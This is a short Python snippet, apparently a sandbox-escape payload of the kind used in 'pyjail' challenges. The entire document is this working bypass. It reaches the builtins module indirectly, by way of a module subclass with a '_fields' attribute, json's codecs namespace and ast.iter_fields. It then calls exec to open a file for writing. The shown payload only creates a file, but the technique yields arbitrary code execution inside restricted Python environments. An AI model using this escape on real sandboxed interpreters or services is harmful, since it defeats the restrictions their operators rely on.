import ast, json
class M(type(json)):
    _fields = ("builtins",)
m = M("m")
m.__dict__.update(json.codecs.__dict__)
dict(ast.iter_fields(m))["builtins"].exec("open('pf','w')")
